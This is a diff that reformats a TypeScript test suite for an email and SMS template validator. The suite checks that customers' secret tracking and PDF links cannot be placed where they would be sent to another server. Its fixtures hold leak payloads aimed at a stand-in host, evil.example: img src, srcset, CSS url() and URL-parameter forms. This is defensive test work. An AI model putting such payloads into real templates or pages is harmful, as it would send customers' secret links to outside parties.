@@ -11,7 +11,7 @@ import { misplacedVariable } from './variable-places.js';
 const leaks = [
   '<img src="https://evil.example/p.png?{{trackingUrl}}">',
   '<img src="{{trackingUrl}}">',
-  '<img src=\'https://evil.example/{{ pdfUrl }}\'>',
+  "<img src='https://evil.example/{{ pdfUrl }}'>",
   '<img src=https://evil.example/?{{trackingUrl}}>',
   '<img srcset="https://evil.example/?{{trackingUrl}} 2x" src="https://a.example/a.png">',
   '<p style="background: url(https://evil.example/?{{trackingUrl}})">Hi</p>',
@@ -34,59 +34,134 @@ const leaks = [
 ];
 
 describe('a secret link in a template', () => {
-  const saved = (content: string) => emailTemplateSchema.safeParse({ name: 'Mine', type: 'quote_ready_notification', subject: 'S', content });
+  const saved = (content: string) =>
+    emailTemplateSchema.safeParse({
+      name: 'Mine',
+      type: 'quote_ready_notification',
+      subject: 'S',
+      content,
+    });
 
   it.each(leaks)('is refused in %s', (content) => {
-    const message = expect.stringContaining('is the customer\'s secret link. It may stand in the text, or be the whole address of a link: href="{{') as string;
-    expect(saved(content).error?.issues).toEqual([expect.objectContaining({ path: ['content'], message })]);
+    const message = expect.stringContaining(
+      'is the customer\'s secret link. It may stand in the text, or be the whole address of a link: href="{{',
+    ) as string;
+    expect(saved(content).error?.issues).toEqual([
+      expect.objectContaining({ path: ['content'], message }),
+    ]);
   });
 
   it.each(leaks)('saved before, tells nobody: %s', (content) => {
-    const { html } = renderEmailHtml('S', content, { trackingUrl: 'https://ours.example/track?key=SECRET', pdfUrl: 'https://ours.example/pdf?key=SECRET' });
-    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi)) expect(tag.replace(/<a href="https:\/\/ours\.example\/[^"]*">/, '')).not.toContain('SECRET');
+    const { html } = renderEmailHtml('S', content, {
+      trackingUrl: 'https://ours.example/track?key=SECRET',
+      pdfUrl: 'https://ours.example/pdf?key=SECRET',
+    });
+    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi))
+      expect(tag.replace(/<a href="https:\/\/ours\.example\/[^"]*">/, '')).not.toContain('SECRET');
     expect(html).not.toMatch(/evil\.example\S*SECRET/);
   });
 
   it.each([
-    '<p>{{trackingUrl}}</p>', '<a href="{{trackingUrl}}">Open</a>', '<A class="b" HREF=\'{{ pdfUrl }}\'>PDF</A>', '<p>Your link: {{trackingUrl}}</p>', '<p>Link:&nbsp;{{trackingUrl}}</p>',
-    '<p>({{trackingUrl}})</p>', '<p>and/or</p><p>{{trackingUrl}}</p>', '<a href="tel:{{businessPhone}}">{{businessPhone}}</a>', '<img src="https://a.example/logo.png" alt="{{businessName}}">',
-    '<a href="https://a.example/?x=1">Shop</a> {{trackingUrl}}', '<p>5 < 6 {{trackingUrl}}</p>',
+    '<p>{{trackingUrl}}</p>',
+    '<a href="{{trackingUrl}}">Open</a>',
+    '<A class="b" HREF=\'{{ pdfUrl }}\'>PDF</A>',
+    '<p>Your link: {{trackingUrl}}</p>',
+    '<p>Link:&nbsp;{{trackingUrl}}</p>',
+    '<p>({{trackingUrl}})</p>',
+    '<p>and/or</p><p>{{trackingUrl}}</p>',
+    '<a href="tel:{{businessPhone}}">{{businessPhone}}</a>',
+    '<img src="https://a.example/logo.png" alt="{{businessName}}">',
+    '<a href="https://a.example/?x=1">Shop</a> {{trackingUrl}}',
+    '<p>5 < 6 {{trackingUrl}}</p>',
   ])('may stand in %s', (content) => {
     expect(saved(content).error?.issues).toBeUndefined();
     const values = { trackingUrl: 'T', pdfUrl: 'P', businessPhone: 'B', businessName: 'N' };
-    expect(renderEmailHtml('S', content, values).html).toBe(content.replace(/\{\{\s*(\w+)\s*\}\}/g, (_all, name: string) => values[name as keyof typeof values]));
+    expect(renderEmailHtml('S', content, values).html).toBe(
+      content.replace(
+        /\{\{\s*(\w+)\s*\}\}/g,
+        (_all, name: string) => values[name as keyof typeof values],
+      ),
+    );
   });
 
   it('is refused in a text message and in a message of the office, as a part of another address', () => {
     const content = 'Hi https://evil.example/?x={{trackingUrl}}';
     const message = expect.stringContaining('secret link') as string;
-    expect(smsTemplateSchema.safeParse({ name: 'Mine', type: 'quote_ready_notification', content }).error?.issues).toEqual([expect.objectContaining({ path: ['content'], message })]);
-    expect(customMessageSchema.safeParse({ requestId: 1, channel: 'sms', text: content }).error?.issues).toEqual([expect.objectContaining({ path: ['text'], message })]);
-    expect(templateTestSchema.safeParse({ channel: 'sms', type: 'quote_ready_notification', content }).success).toBe(false);
-    expect(renderSms(content, { trackingUrl: 'https://ours.example/?key=SECRET' })).toBe('Hi https://evil.example/?x= https://ours.example/?key=SECRET');
+    expect(
+      smsTemplateSchema.safeParse({ name: 'Mine', type: 'quote_ready_notification', content }).error
+        ?.issues,
+    ).toEqual([expect.objectContaining({ path: ['content'], message })]);
+    expect(
+      customMessageSchema.safeParse({ requestId: 1, channel: 'sms', text: content }).error?.issues,
+    ).toEqual([expect.objectContaining({ path: ['text'], message })]);
+    expect(
+      templateTestSchema.safeParse({ channel: 'sms', type: 'quote_ready_notification', content })
+        .success,
+    ).toBe(false);
+    expect(renderSms(content, { trackingUrl: 'https://ours.example/?key=SECRET' })).toBe(
+      'Hi https://evil.example/?x= https://ours.example/?key=SECRET',
+    );
   });
 
   it('stands in its place in every built-in template', () => {
     for (const language of locales) {
-      for (const type of emailTemplateTypes) expect(misplacedVariable(defaultEmailTemplates[language][type].content)).toBeNull();
-      for (const type of smsTemplateTypes) expect(misplacedVariable(defaultSmsTemplates[language][type].content)).toBeNull();
+      for (const type of emailTemplateTypes)
+        expect(misplacedVariable(defaultEmailTemplates[language][type].content)).toBeNull();
+      for (const type of smsTemplateTypes)
+        expect(misplacedVariable(defaultSmsTemplates[language][type].content)).toBeNull();
     }
   });
 });
 
 it('no variable stands in what a mail program loads', () => {
-  expect(emailTemplateSchema.safeParse({ name: 'M', type: 'custom_notification', subject: 'S', content: '<img src="https://evil.example/?{{customMessage}}">' }).error?.issues[0]?.message)
-    .toBe('{{customMessage}} may stand in the text only, not inside a tag.');
+  expect(
+    emailTemplateSchema.safeParse({
+      name: 'M',
+      type: 'custom_notification',
+      subject: 'S',
+      content: '<img src="https://evil.example/?{{customMessage}}">',
+    }).error?.issues[0]?.message,
+  ).toBe('{{customMessage}} may stand in the text only, not inside a tag.');
 });
 
 const piece = fc.constantFrom(
-  '<img ', '<a ', '<p>', '</p>', '>', '"', '\'', '=', 'src', 'href', 'https://evil.example/?', '{{trackingUrl}}', '{{ pdfUrl }}', ' ', '<', '/', 'alt', 'style', 'url(', ')',
+  '<img ',
+  '<a ',
+  '<p>',
+  '</p>',
+  '>',
+  '"',
+  "'",
+  '=',
+  'src',
+  'href',
+  'https://evil.example/?',
+  '{{trackingUrl}}',
+  '{{ pdfUrl }}',
+  ' ',
+  '<',
+  '/',
+  'alt',
+  'style',
+  'url(',
+  ')',
 );
 
 it('tells no other server the link, however a template is put together', () => {
-  fc.assert(fc.property(fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join('')), (content) => {
-    const { html } = renderEmailHtml('S', content, { trackingUrl: 'https://ours.example/?key=SECRET', pdfUrl: 'https://ours.example/?key=SECRET' });
-    expect(html).not.toMatch(/evil\.example[^\s<>]*SECRET/);
-    expect(html).not.toMatch(/<img(?:[^<>"']|"[^"]*"|'[^']*')*SECRET(?:[^<>"']|"[^"]*"|'[^']*')*>/);
-  }), { numRuns: 2000 });
+  fc.assert(
+    fc.property(
+      fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join('')),
+      (content) => {
+        const { html } = renderEmailHtml('S', content, {
+          trackingUrl: 'https://ours.example/?key=SECRET',
+          pdfUrl: 'https://ours.example/?key=SECRET',
+        });
+        expect(html).not.toMatch(/evil\.example[^\s<>]*SECRET/);
+        expect(html).not.toMatch(
+          /<img(?:[^<>"']|"[^"]*"|'[^']*')*SECRET(?:[^<>"']|"[^"]*"|'[^']*')*>/,
+        );
+      },
+    ),
+    { numRuns: 2000 },
+  );
 });
